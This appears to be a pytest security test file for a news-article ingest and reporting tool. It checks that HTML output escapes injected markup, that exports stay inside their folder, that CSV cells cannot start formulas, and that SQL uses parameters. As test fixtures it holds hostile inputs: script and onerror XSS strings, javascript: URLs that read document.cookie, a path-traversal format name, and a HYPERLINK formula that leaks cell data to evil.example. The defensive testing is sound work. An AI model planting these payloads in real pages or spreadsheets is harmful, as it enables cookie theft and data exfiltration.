"""Hostile article text and metadata, through a real ingest, never act in the report; exports
stay inside their folder; SQL takes values only as parameters."""

from __future__ import annotations

import ast
import csv
import json
import re
from pathlib import Path

import pytest

from parallax.errors import UnsupportedFormat
from parallax.pipeline import ingest_paths, stored_incidents
from parallax.report.exports import FORMATS, export
from parallax.report.html import render_report
from parallax.settings import Settings

SRC = Path(__file__).resolve().parents[2] / "src" / "parallax"
SCRIPT = "<script>alert('x')</script>"
ATTRIBUTE = '" onmouseover="alert(1)" x="'
IMAGE = "<img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
HOSTILE = {
    "title": f"Blast kills seven {SCRIPT}",
    "outlet": f"Wire {ATTRIBUTE}",
    "url": "javascript:alert(document.cookie)",
    "published": "2024-03-02",
    "text": (f"KIRKUK, Iraq - A car bomb exploded near a checkpoint in Kirkuk on Friday, killing "
             f"seven people {IMAGE} and wounding 12 others, police said {SCRIPT}.\n\nThe "
             f"provincial governor {ATTRIBUTE} said the death toll could rise."),
}
SECOND = dict(HOSTILE, url="JaVaScRiPt:alert(3)", outlet="<b>Bold outlet</b>",
              text=FORMULA + " " + HOSTILE["text"].replace("seven people", "eight people"))


@pytest.fixture(scope="module")
def stored(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    inputs = root / "inputs"
    inputs.mkdir()
    (inputs / "wire.jsonl").write_text(json.dumps(HOSTILE) + "\n" + json.dumps(SECOND) + "\n")
    (inputs / f"{IMAGE}.txt").write_bytes(b"\x00binary")  # a hostile file name, rejected
    db = root / "db.sqlite"
    summary = ingest_paths([inputs], db, Settings(workers=1))
    assert summary.new_articles == 2 and summary.rejected
    return stored_incidents(db), root


@pytest.fixture(scope="module")
def html(stored):
    run, _ = stored
    assert run.incidents, "the hostile articles should still produce an incident"
    return render_report(run.incidents, run.articles, run.last_run)


def test_script_tags_from_articles_are_escaped(html):
    assert "<script" not in html.lower()
    assert "&lt;script&gt;" in html


def test_no_markup_from_articles_survives(html):
    assert "<img" not in html.lower() and "<b>bold" not in html.lower()
    assert not re.search(r"<[^>]*\sonerror\s*=", html, re.I)


def test_attribute_injection_is_neutralised(html):
    assert not re.search(r"<[^>]*\sonmouseover\s*=", html, re.I)
    assert "&#34; onmouseover=" in html or "&quot; onmouseover=" in html


def test_javascript_urls_become_no_link(html):
    assert "javascript:" not in html.lower()


def test_hostile_file_name_of_a_rejected_input_is_escaped(html):
    assert "&lt;img src=x onerror=alert(2)&gt;" in html


def test_exports_stay_inside_out_and_unknown_formats_write_nothing(stored, tmp_path):
    run, _ = stored
    out = tmp_path / "out"
    written = export(run.incidents, run.articles, out, FORMATS)
    assert written and all(p.resolve().is_relative_to(out.resolve()) for p in written)
    with pytest.raises(UnsupportedFormat):
        export(run.incidents, run.articles, tmp_path / "other", ("../../escape",))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_csv_cells_never_start_a_formula(stored, tmp_path):
    run, _ = stored
    written = export(run.incidents, run.articles, tmp_path / "out", ("csv",))
    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert any(FORMULA in cell for cell in cells), "the hostile sentence should reach claims.csv"
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not _is_number(c)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# An f-string SQL statement may interpolate only what comes from code: "?" placeholders (a
# marks(...) call), identifiers held in the names below (table and column names the code itself
# chose), module constants (UPPER_CASE) and ints ({n:d}). Anything else fails this test until
# someone has reviewed it and listed it.
SQL_START = re.compile(r"\s*(SELECT|INSERT|UPDATE|DELETE|PRAGMA|CREATE|ALTER|DROP|REPLACE|WITH)\b", re.I)
IDENTIFIER_NAMES = frozenset({"table", "column", "columns", "conflict", "marks", "select"})
REVIEWED_EXPRESSIONS = frozenset({
    "int(timeout * 1000)",  # PRAGMA busy_timeout, a number
    "only.format('mention_id')", "only.format('m.id')",  # a constant WHERE clause with one "?"
})


def _interpolations(path: Path):
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if not isinstance(node, ast.JoinedStr):
            continue
        text = "".join(part.value for part in node.values if isinstance(part, ast.Constant))
        if SQL_START.match(text):
            for part in node.values:
                if isinstance(part, ast.FormattedValue):
                    yield f"{path.relative_to(SRC)}:{node.lineno}", part


def _is_safe(part: ast.FormattedValue) -> bool:
    value, spec = part.value, part.format_spec
    if spec is not None and ast.unparse(spec) in ("f'd'", 'f"d"'):
        return True  # formatted as an integer: cannot carry SQL
    if isinstance(value, ast.Name):
        return value.id in IDENTIFIER_NAMES or value.id.isupper()
    if isinstance(value, ast.Call) and isinstance(value.func, ast.Name) and value.func.id == "marks":
        return True
    return ast.unparse(value) in REVIEWED_EXPRESSIONS


def test_sql_is_parameterised():
    unsafe = [f"{where}: {{{ast.unparse(part.value)}}}" for path in sorted(SRC.rglob("*.py"))
              for where, part in _interpolations(path) if not _is_safe(part)]
    assert not unsafe, f"review these SQL interpolations (values must be ? parameters): {unsafe}"


def test_sql_check_catches_a_value_interpolated_into_sql(tmp_path):
    bad = ast.parse('db.execute(f"SELECT * FROM articles WHERE title = \'{title}\'")')
    [part] = [v for v in ast.walk(bad) if isinstance(v, ast.FormattedValue)]
    assert not _is_safe(part)
